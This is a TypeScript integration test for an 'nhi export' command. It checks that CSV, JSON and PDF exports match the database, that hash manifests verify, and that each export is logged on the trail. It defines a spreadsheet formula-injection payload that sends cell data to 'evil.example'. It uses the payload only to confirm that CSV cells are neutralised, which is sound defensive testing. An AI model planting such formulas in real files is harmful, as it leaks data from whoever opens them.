/**
 * Exports through the real command (`nhi export`) on the demo dataset imported as its own cluster: the files
 * hold what the database holds under the filter, CSV cells are neutralised against formula injection, the
 * SHA256SUMS manifest verifies with `sha256sum -c`, the PDF's text carries the report's sections and figures,
 * and each export is on the activity trail with its files' hashes.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type pg from 'pg';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { runNhi } from '@/lib/cli/run-nhi';
import { openStore } from '@/lib/collect/store';
import { demoDataFile } from '@/lib/demo/load';
import { OWASP_NHI_TOP10 } from '@/lib/owasp';
import { pdfText } from './pdf-text';

const CLUSTER = 'cli-export';
const nhi = (...args: string[]) => runNhi(inject('databaseUrl'), ...args);
let pool: pg.Pool;
let out: string;
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

/** Parses RFC 4180 CSV (quoted cells, doubled quotes, line breaks in quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') endCell();
    else if (ch === '\n') {
      endCell();
      rows.push(row);
      row = [];
    } else cell += ch;
  }
  if (cell || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}
const records = (text: string) => {
  const [head, ...rows] = parseCsv(text);
  return rows.map((r) => Object.fromEntries(head!.map((h, i) => [h, r[i] ?? ''])));
};

beforeAll(() => {
  pool = openStore(inject('databaseUrl'));
  out = mkdtempSync(path.join(tmpdir(), 'nhi-export-'));
  expect(nhi('import', demoDataFile, '--cluster', CLUSTER).status).toBe(0);
});
afterAll(async () => {
  await pool?.end();
  rmSync(out, { recursive: true, force: true });
});

describe('nhi export', () => {
  it('writes every dataset as CSV with a SHA256SUMS that sha256sum -c verifies; the content is what the database holds', async () => {
    // An exception whose justification is a formula (people type anything) and whose requester is one too.
    const findings = JSON.parse(nhi('findings', '--json', '--cluster', CLUSTER, '--rule', 'NHI-POS-005').stdout) as {
      id: string;
    }[];
    const added = nhi(
      'exceptions',
      'add',
      findings[0]!.id,
      '--reason',
      FORMULA,
      '--by',
      '@evil',
      '--approved-by',
      'bob',
      '--expires',
      '30d',
    );
    expect(added.stderr).toBe('');

    const dir = path.join(out, 'csv');
    const r = nhi('export', '--format', 'csv', '--out', dir, '--cluster', CLUSTER, '--status', 'all', '--by', 'auditor');
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    for (const f of ['inventory.csv', 'findings.csv', 'credentials.csv', 'exceptions.csv', 'trail.csv'])
      expect(r.stdout).toMatch(new RegExp(`^[0-9a-f]{64}  ${f.replace('.', '\\.')}  \\(\\d+ rows, \\d+ bytes\\)$`, 'm'));
    const check = spawnSync('sha256sum', ['-c', 'SHA256SUMS'], { cwd: dir, encoding: 'utf8' });
    expect(check.status).toBe(0);
    expect(check.stdout.trim().split('\n').sort()).toEqual(
      ['credentials.csv: OK', 'exceptions.csv: OK', 'findings.csv: OK', 'inventory.csv: OK', 'trail.csv: OK'].sort(),
    );

    const clusterId = (await pool.query<{ id: string }>(`SELECT id FROM "Cluster" WHERE name = $1`, [CLUSTER])).rows[0]!.id;
    const n = async (sql: string) => Number((await pool.query<{ n: string }>(sql, [clusterId])).rows[0]!.n);
    const inventory = records(readFileSync(path.join(dir, 'inventory.csv'), 'utf8'));
    expect(inventory).toHaveLength(
      await n(`SELECT count(*) AS n FROM "Identity" WHERE "clusterId" = $1 AND "deletedAt" IS NULL`),
    );
    expect(new Set(inventory.map((i) => i.cluster))).toEqual(new Set([CLUSTER]));
    const argocd = inventory.find((i) => i.namespace === 'argocd' && i.name === 'argocd-application-controller')!;
    const score = await pool.query<{ score: number }>(
      `SELECT r.score FROM "RiskScore" r JOIN "Identity" i ON i.id = r."identityId" WHERE i."clusterId" = $1 AND i.namespace = 'argocd' AND i.name = 'argocd-application-controller'`,
      [clusterId],
    );
    expect(argocd).toMatchObject({ kind: 'ServiceAccount', riskScore: String(score.rows[0]!.score) });
    expect(argocd.workloads).toMatch(/^argocd\/StatefulSet\/argocd-application-controller/);
    expect(records(readFileSync(path.join(dir, 'findings.csv'), 'utf8'))).toHaveLength(
      await n(`SELECT count(*) AS n FROM "Finding" WHERE "clusterId" = $1`),
    );
    const credentials = records(readFileSync(path.join(dir, 'credentials.csv'), 'utf8'));
    expect(credentials).toHaveLength(
      await n(`SELECT count(*) AS n FROM "Credential" WHERE "clusterId" = $1 AND "deletedAt" IS NULL`),
    );
    expect(Object.keys(credentials[0]!)).not.toContain('data');

    // Formula injection: the cells start with ' and are shown as text; the JSON keeps the value as it is.
    const exceptions = readFileSync(path.join(dir, 'exceptions.csv'), 'utf8');
    const row = records(exceptions).find((e) => e.requestedBy?.includes('evil'))!;
    expect(row.reason).toBe(`'${FORMULA}`);
    expect(row.requestedBy).toBe(`'@evil`);
    expect(row).toMatchObject({ state: 'active', approvedBy: 'bob', rule: 'NHI-POS-005' });
    for (const cells of parseCsv(exceptions)) for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);

    // The trail in the export: this export's own start is there (written before the first byte).
    const trail = records(readFileSync(path.join(dir, 'trail.csv'), 'utf8'));
    expect(trail.at(-1)).toMatchObject({ actor: 'auditor', action: 'export.create' });
    expect(trail.find((t) => t.action === 'exception.create' && t.actor === 'bob')).toBeTruthy();
  });

  it('writes JSON that parses back, with the same rows, and records the hashes on the trail', async () => {
    const dir = path.join(out, 'json');
    const r = nhi(
      'export',
      '--format',
      'json',
      '--out',
      dir,
      '--cluster',
      CLUSTER,
      '--what',
      'exceptions,findings',
      '--severity',
      'critical',
      '--by',
      'auditor',
    );
    expect(r.status).toBe(0);
    expect(spawnSync('sha256sum', ['-c', '--strict', 'SHA256SUMS'], { cwd: dir }).status).toBe(0);
    const findings = JSON.parse(readFileSync(path.join(dir, 'findings.json'), 'utf8')) as {
      severity: string;
      status: string;
      owasp: string[];
    }[];
    expect(findings.length).toBeGreaterThan(5);
    expect(findings.every((f) => f.severity === 'critical' && f.status === 'open' && Array.isArray(f.owasp))).toBe(true);
    const exceptions = JSON.parse(readFileSync(path.join(dir, 'exceptions.json'), 'utf8')) as { reason: string }[];
    expect(exceptions.map((e) => e.reason)).toContain(FORMULA);

    const entry = JSON.parse(nhi('trail', 'list', '--json', '--action', 'export.complete', '--limit', '1').stdout) as {
      items: { actor: string; after: { files: { file: string; sha256: string; rows: number }[] } }[];
    };
    const manifest = readFileSync(path.join(dir, 'SHA256SUMS'), 'utf8');
    expect(entry.items[0]!.actor).toBe('auditor');
    expect(entry.items[0]!.after.files.map((f) => `${f.sha256}  ${f.file}\n`).join('')).toBe(manifest);
    expect(entry.items[0]!.after.files.find((f) => f.file === 'findings.json')!.rows).toBe(findings.length);
  });

  it('writes the evidence report as a PDF whose text holds the sections and the figures', async () => {
    const dir = path.join(out, 'pdf');
    const r = nhi('export', '--format', 'pdf', '--out', dir, '--cluster', CLUSTER);
    expect(r.status).toBe(0);
    expect(spawnSync('sha256sum', ['-c', 'SHA256SUMS'], { cwd: dir }).status).toBe(0);
    const bytes = readFileSync(path.join(dir, 'evidence-report.pdf'));
    expect(bytes.subarray(0, 5).toString()).toBe('%PDF-');
    const { text, pages, info } = await pdfText(bytes);
    expect(pages).toBeGreaterThanOrEqual(1);
    expect(info.Title).toBe('NHI evidence report');
    for (const section of [
      'Scope',
      'Snapshot time',
      'Inventory summary',
      'Findings by OWASP NHI Top 10 item',
      'Findings by severity',
      'Exceptions',
      'Ownership coverage',
      'Short-lived credential coverage',
    ])
      expect(text).toContain(section);
    expect(text).toContain(`Scope: cluster ${CLUSTER}`);

    const clusterId = (await pool.query<{ id: string }>(`SELECT id FROM "Cluster" WHERE name = $1`, [CLUSTER])).rows[0]!.id;
    const q = async (sql: string) => (await pool.query<{ n: number }>(sql, [clusterId])).rows[0]!.n;
    const identities = await q(`SELECT count(*)::int AS n FROM "Identity" WHERE "clusterId" = $1 AND "deletedAt" IS NULL`);
    const workloads = await q(`SELECT count(*)::int AS n FROM "Workload" WHERE "clusterId" = $1 AND "deletedAt" IS NULL`);
    expect(text).toMatch(new RegExp(`Identities \\(live\\)\\s+${identities}\\b`));
    expect(text).toMatch(new RegExp(`Workloads \\(live\\)\\s+${workloads}\\b`));
    // Each OWASP item with its open count; the critical open count by severity.
    for (const [id, name] of Object.entries(OWASP_NHI_TOP10)) {
      const open = await q(
        `SELECT count(*)::int AS n FROM "Finding" WHERE "clusterId" = $1 AND status = 'open' AND '${id}' = ANY("owaspIds")`,
      );
      if (!name.includes(' Configurations')) expect(text).toMatch(new RegExp(`${id}\\s+${name}\\s+${open}\\b`));
    }
    const critical = await q(
      `SELECT count(*)::int AS n FROM "Finding" WHERE "clusterId" = $1 AND status = 'open' AND severity = 'critical'`,
    );
    expect(text).toMatch(new RegExp(`critical\\s+${critical}\\s`));
    // The active exception with its approver and expiry; the trail's head as an anchor.
    expect(text).toMatch(/Active: 1\s+Expired: 0\s+Revoked: 0/);
    expect(text).toMatch(/NHI-POS-005[\s\S]*bob/);
    expect(text).toMatch(/Coverage/);
    expect(text).toMatch(/npx nhi trail verify --anchor\s*\d+:[0-9a-f]{64}/);
  });

  it('refuses a bad filter or format before recording or writing anything', async () => {
    const before = (await pool.query<{ n: string }>(`SELECT count(*)::text AS n FROM "ActivityLog"`)).rows[0]!.n;
    const bad = nhi('export', '--format', 'csv', '--out', path.join(out, 'bad'), '--what', 'findings', '--severity', 'dreadful');
    expect(bad.status).toBe(2);
    expect(bad.stderr).toMatch(/Invalid findings filter "severity"/);
    expect(nhi('export', '--format', 'xls').status).toBe(2);
    expect(nhi('export', '--format', 'csv', '--what', 'secrets').status).toBe(2);
    expect((await pool.query<{ n: string }>(`SELECT count(*)::text AS n FROM "ActivityLog"`)).rows[0]!.n).toBe(before);
  });
});
